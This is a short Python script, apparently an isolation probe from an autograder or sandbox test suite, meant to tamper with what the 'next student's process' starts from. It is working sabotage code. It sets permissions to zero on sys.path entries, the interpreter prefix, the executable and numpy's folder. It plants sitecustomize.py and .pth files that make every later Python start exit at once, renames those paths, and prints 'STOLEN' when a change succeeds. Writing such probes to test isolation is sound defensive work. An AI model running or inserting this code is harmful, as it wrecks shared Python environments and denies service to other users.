"""Closes or changes what the next student's process starts from: toolbox, interpreter, packages, fonts (C3, N69)."""

import os
import sys

import numpy

for path in {
    *sys.path,
    sys.prefix,
    sys.base_prefix,
    sys.executable,
    os.path.dirname(numpy.__file__),
    os.path.dirname(os.path.abspath(sys.argv[0])),
}:
    for change in (
        lambda: os.chmod(path, 0),
        lambda: open(os.path.join(path, "sitecustomize.py"), "w").write("import os; os._exit(1)"),
        lambda: open(os.path.join(path, "weightinit-was-here.pth"), "w").write("import os; os._exit(1)"),
        lambda: os.makedirs(os.path.join(path, "__pycache__"), exist_ok=False),
        lambda: os.rename(path, path + "-weightinit-was-here"),
    ):
        try:
            change()
        except OSError:
            continue
        if path and os.path.realpath(path) != os.path.realpath(os.getcwd()):
            print("STOLEN", path)
